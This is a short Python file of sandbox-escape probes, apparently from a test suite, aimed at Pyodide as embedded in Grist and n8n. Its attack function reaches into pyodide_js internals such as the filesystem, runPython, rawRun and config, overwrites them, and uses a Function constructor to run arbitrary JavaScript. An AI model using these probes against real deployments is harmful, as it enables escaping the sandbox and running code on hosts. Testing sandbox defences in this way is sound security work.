# From: Grist and n8n: `pyodide_js` leads to the file system, the WebAssembly module and `runPython`.
# Ends: []
from gains import gains

NAMES = ["_module", "FS", "PATH", "ERRNO_CODES", "runPython", "runPythonAsync", "globals", "loadPackage", "registerJsModule", "unregisterJsModule", "toPy", "pyimport", "mountNativeFS", "setStdout", "setInterruptBuffer", "ffi", "_emscripten"]


def attack(probe):
    import pyodide_js

    return gains([
        *(lambda name=name: getattr(pyodide_js, name) for name in NAMES),
        *(lambda name=name: getattr(pyodide_js._api, name) for name in ["_module", "tests", "rawRun", "fatal_error", "public_api", "dlerror", "hiwire", "runtimeEnv", "lockfile", "Installer"]),
        lambda: setattr(pyodide_js._api.config, "enableRunUntilComplete", True) or pyodide_js._api.config.enableRunUntilComplete or None,
        lambda: setattr(pyodide_js, "runPython", 1) or pyodide_js.runPython,
        lambda: setattr(pyodide_js._api, "scheduleCallback", print) or 1,
        lambda: pyodide_js._api.scheduleCallback(print, 0) or 1,
        lambda: pyodide_js._api.scheduleCallback.constructor("return 42")(),
    ])
